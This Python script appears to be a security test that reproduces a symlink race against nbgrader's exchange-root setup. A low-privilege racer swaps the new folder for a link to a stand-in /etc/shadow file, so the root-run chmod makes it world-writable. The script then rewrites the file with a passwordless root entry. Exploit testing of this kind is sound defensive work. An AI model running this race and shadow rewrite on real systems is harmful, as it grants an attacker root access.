"""a04: a03 without a link on the way: the exchange root's parent is a folder of mallory's (uid 65534), say
/tmp/a47nbz (she made it before the TA's first release; root = /tmp/a47nbz/exchange). GuardedExchange._check_root()
runs `os.mkdir(root, 0o700)` then `os.chmod(root, 0o1777)` by path, and checks the folders above only after. mallory's
racer (a04_racer.c) renames the new folder away the moment it appears and puts `exchange -> VICTIM` in its place:
the TA's chmod follows the link. VICTIM stands for /etc/shadow (root's, 0600). TA: `nbgrader release_assignment
ps1_memory` as root, repeated; a fresh VICTIM each try."""
import os, subprocess, shutil, sys, time, glob, stat
from harness import *
d = course("a04")
DIR = "/tmp/a47nbz"; VICTIM = "tests/attacks/round47/a04_victim_shadow"
shutil.rmtree(DIR, ignore_errors=True)
subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "mkdir", "-m", "755", DIR], check=True)
racer = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "tests/attacks/round47/a04_racer", DIR, VICTIM, "400"],
                         stdout=subprocess.PIPE, text=True)
wins = 0; tries = int(sys.argv[1]) if len(sys.argv) > 1 else 25
for i in range(tries):
    with open(VICTIM, "w") as f: f.write("root:$6$secret:...\n")
    os.chmod(VICTIM, 0o600)
    r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "release_assignment", "ps1_memory", "--Exchange.root=" + DIR + "/exchange",
                        "--CourseDirectory.course_id=distcourse"], cwd=d, env=ENV, capture_output=True, text=True)
    mode = stat.S_IMODE(os.stat(VICTIM).st_mode)
    last = [l for l in (r.stdout + r.stderr).splitlines() if "CRITICAL" in l or "Released" in l]
    print(f"try {i}: rc={r.returncode} VICTIM mode={oct(mode)} {'WON' if mode != 0o600 else ''} | {(last or [''])[-1][:160]}", flush=True)
    if mode != 0o600:
        wins += 1
        # what a world-writable /etc/shadow means: mallory rewrites it
        w = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", f"echo 'root::0:0:99999:7:::' > {VICTIM} && echo mallory rewrote it"], capture_output=True, text=True)
        print("   ", w.stdout.strip(), w.stderr.strip(), "->", open(VICTIM).read().strip())
    for p in [DIR + "/exchange"] + glob.glob(DIR + "/taken*"):
        if os.path.islink(p): os.unlink(p)
        elif os.path.isdir(p): shutil.rmtree(p)
    time.sleep(0.05)
racer.kill(); racer.wait()
print(f"wins {wins} of {tries}")
shutil.rmtree(DIR, ignore_errors=True); shutil.rmtree(d); os.unlink(VICTIM)
